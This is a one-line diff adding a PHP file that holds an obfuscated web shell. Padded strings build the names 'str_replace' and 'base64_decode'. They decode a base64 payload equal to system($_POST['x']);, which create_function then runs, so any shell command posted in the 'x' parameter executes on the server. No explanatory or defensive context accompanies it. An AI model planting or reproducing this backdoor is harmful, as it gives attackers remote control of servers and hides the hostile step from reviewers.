@@ -1,0 +1,1 @@
+<?php $p="c3lzdGVtKCRfUE9TVFsneCddKTs="; $f = str_replace("w","","stwrw_wrwepwlwawcwe"); $b = $f("q","","bqaqsqeq6q4q_qdqeqcqoqdqe"); $c=('chr')(97); $g = 'create_function'('', $b($f('gi','',$p))); $g();
